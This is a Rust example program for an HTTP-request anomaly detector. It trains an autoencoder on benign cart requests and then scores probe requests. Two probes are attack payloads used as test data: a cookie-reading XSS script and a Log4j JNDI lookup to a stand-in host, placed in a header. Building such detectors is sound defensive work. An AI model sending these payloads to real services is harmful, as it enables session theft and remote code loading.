//! The content stage on its own: hash serialized requests into 256-d signed
//! count vectors, train the autoencoder, calibrate the threshold and score.
//!
//! cargo run --release -p apimap --example autoencoder_scoring

use apimap::autoencoder::{fit_threshold, train, AEModel, TrainConfig};
use apimap::hashing::{hash_features, FeatureVector};
use apimap::request::{serialize_for_content, DEFAULT_BODY_LIMIT};
use apimap::{parse_request, RawRequest};

fn features(r: &RawRequest) -> FeatureVector {
    let req = parse_request(r).expect("valid url");
    hash_features(&serialize_for_content(&req, DEFAULT_BODY_LIMIT), 0)
}

fn order(item: &str, qty: u32, lang: &str) -> RawRequest {
    RawRequest::new("POST", "/cart/items")
        .header("Content-Type", "application/json")
        .header("Accept-Language", lang)
        .body(format!(r#"{{"item": "{item}", "qty": {qty}}}"#))
}

fn main() -> apimap::Result<()> {
    let items = ["book", "lamp", "mug", "pen"];
    let langs = ["en", "de"];
    let benign: Vec<RawRequest> = (0..2_000)
        .map(|i| order(items[i % 4], (i % 3 + 1) as u32, langs[i % 2]))
        .collect();
    println!(
        "serialized: {}",
        serialize_for_content(&parse_request(&benign[0])?, DEFAULT_BODY_LIMIT).text
    );

    let vectors: Vec<FeatureVector> = benign.iter().map(features).collect();
    let report = train(&vectors, &TrainConfig::default())?;
    let mut model = report.model;
    println!(
        "loss {:.4} -> {:.6} over {} epochs",
        report.epoch_losses[0],
        report.epoch_losses.last().unwrap(),
        report.epoch_losses.len()
    );
    let t = fit_threshold(&mut model, &vectors);
    println!(
        "threshold {:.6e} (max of {} training errors)\n",
        t.value, t.training_error_count
    );

    let probes = [
        ("seen before", order("mug", 2, "en")),
        ("new pairing", order("mug", 2, "de")),
        (
            "xss",
            order("<script>alert(document.cookie)</script> x", 1, "en"),
        ),
        (
            "log4j header",
            order("pen", 1, "${jndi:ldap://evil.example/a} en"),
        ),
    ];
    for (what, r) in &probes {
        let s = model.score(&features(r));
        println!("{what:<14} score {:.6e} flagged {}", s.score, s.flagged);
    }

    let path = std::env::temp_dir().join("apimap-example-model.json");
    model.save(&path)?;
    let reloaded = AEModel::load(&path)?;
    assert_eq!(
        reloaded.score(&features(&probes[2].1)).score,
        model.score(&features(&probes[2].1)).score
    );
    println!("\nmodel round-tripped through {}", path.display());
    Ok(())
}
